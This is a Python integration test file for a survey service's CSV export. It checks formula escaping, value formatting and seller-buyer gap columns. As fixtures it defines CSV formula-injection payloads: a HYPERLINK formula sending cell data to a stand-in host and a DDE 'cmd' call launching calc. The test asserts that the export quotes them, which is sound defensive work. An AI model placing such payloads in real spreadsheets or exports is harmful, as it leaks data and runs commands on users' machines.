"""The CSV export of a closed wave, from a roster imported through the admin API."""

from __future__ import annotations

import csv
import io

import pytest

from services.scoring.worker import close_wave
from services.survey.organisations import create_api_key
from services.survey.results import EXPORT_COLUMNS
from shared.bus import InProcessBus
from shared.vocabulary import DIMENSIONS
from tests.conftest import isolated_settings
from tests.integration.test_admin_support import SAMPLE_ROWS, make_admin
from tests.support.survey_fixtures import close, complete_answers, make_wave, survey_app

HOSTILE_ACCOUNT = '=HYPERLINK("http://evil.test/?d="&A1,"Open")'
HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_SELLER = "+cmd@seller.test"


@pytest.fixture
def bus():
    return InProcessBus(isolated_settings(), declare={"everything": ("#",)})


def _closed_wave_export(db, bus, rows) -> list[dict[str, str]]:
    """Import `rows`, launch, let every buyer and seller answer, close and score, export."""
    admin = make_admin(db, bus=bus)
    _, wave, _ = admin.launched_wave(rows)
    links = admin.get(f"/api/v1/waves/{wave['id']}/links").get_json()["items"]
    for link in links:
        token = link["url"].rsplit("/s/", 1)[1]
        survey = admin.client.get(f"/api/v1/respond/{token}").get_json()
        for subject in survey["subjects"]:
            submitted = admin.client.post(
                f"/api/v1/respond/{token}/subjects/{subject['subject_id']}/submit",
                json={"answers": complete_answers(recommend=3, value=2)},
            )
            assert submitted.status_code == 200, submitted.get_json()
    close_wave(db=db, bus=bus, wave_id=wave["id"])
    export = admin.get(f"/api/v1/waves/{wave['id']}/export.csv")
    assert export.status_code == 200
    reader = csv.reader(io.StringIO(export.get_data(as_text=True)))
    header = next(reader)
    return [dict(zip(header, row, strict=True)) for row in reader]


def test_export_cells_a_spreadsheet_would_run_come_back_quoted(db, bus):
    rows = [
        {
            **SAMPLE_ROWS[0],
            "account_id": HOSTILE_ACCOUNT,
            "contact_name": HOSTILE_NAME,
            "seller_email": HOSTILE_SELLER,
        }
    ]
    (buyer, seller) = sorted(_closed_wave_export(db, bus, rows), key=lambda r: r["side"])
    assert buyer["account_external_id"] == "'" + HOSTILE_ACCOUNT
    assert buyer["contact_name"] == "'" + HOSTILE_NAME
    assert seller["seller_email"] == "'" + HOSTILE_SELLER
    for row in (buyer, seller):
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values())


def test_export_writes_booleans_as_true_false_numbers_as_numbers_and_both_names(db, bus):
    exported = _closed_wave_export(db, bus, SAMPLE_ROWS)
    buyers = {r["contact_email"]: r for r in exported if r["side"] == "buyer"}
    assert set(buyers) == {"joe@acme.example", "amy@acme.example", "bea@beta.example"}
    assert {r["satisfaction_trap"] for r in buyers.values()} == {"false"}
    assert buyers["joe@acme.example"]["contact_name"] == "Joe Buyer"
    assert buyers["bea@beta.example"]["account_name"] == "Beta GmbH"
    sellers = [r for r in exported if r["side"] == "seller"]
    assert {r["account_name"] for r in sellers} == {"Acme", "Beta GmbH"}
    # answers of 2 on 1-7: every score is a plain number, unquoted
    assert buyers["joe@acme.example"]["relationship_index"] == "16.67"
    assert buyers["joe@acme.example"]["recommend"] == "3"
    # the columns API.md names, old ones first and in their old order
    assert tuple(exported[0]) == EXPORT_COLUMNS
    assert EXPORT_COLUMNS[:2] == ("response_id", "side")
    names_at = EXPORT_COLUMNS.index("contact_name")
    assert EXPORT_COLUMNS[names_at : names_at + 2] == ("contact_name", "account_name")
    assert names_at > EXPORT_COLUMNS.index("touchpoint.billing")  # added after the old ones


def test_export_seller_rows_carry_their_pairs_gaps_and_buyer_rows_leave_them_empty(db):
    settings = isolated_settings()
    world = make_wave(db, settings, buyers=2, sellers=1, accounts=1)
    client = survey_app(db, settings).test_client()
    answers = [(world.buyers[0], world.buyers[0].subject_ids[0], 4)]
    answers += [(world.sellers[0], subject_id, 6) for subject_id in world.sellers[0].subject_ids]
    for person, subject_id, value in answers:
        submitted = client.post(
            f"/api/v1/respond/{person.token}/subjects/{subject_id}/submit",
            json={"answers": complete_answers(value=value)},
        )
        assert submitted.status_code == 200, submitted.get_json()
    close(db, settings, world)
    key = create_api_key(db=db, org_id=world.org_id)
    export = client.get(
        f"/api/v1/waves/{world.wave_id}/export.csv", headers={"Authorization": f"Bearer {key}"}
    )
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))

    by_side = {(r["side"], r["contact_email"]): r for r in rows}
    paired = by_side[("seller", "buyer1@client1.example")]
    # 6s against 4s on a 1-7 scale: 83.33 - 50 on every dimension, the seller sees more
    assert float(paired["gap"]) == pytest.approx(100 / 3, abs=0.01)
    assert paired["gap_class"] == "blind_spot"
    assert float(paired["nps_gap"]) == 0
    assert [float(paired[f"gap.{d}"]) for d in DIMENSIONS] == [pytest.approx(100 / 3, abs=0.01)] * 6
    unpaired = by_side[("seller", "buyer2@client1.example")]  # buyer 2 never answered
    buyer = by_side[("buyer", "buyer1@client1.example")]
    for row in (unpaired, buyer):
        assert row["gap"] == row["gap_class"] == row["nps_gap"] == row["gap.trust"] == ""
    assert tuple(rows[0]) == EXPORT_COLUMNS
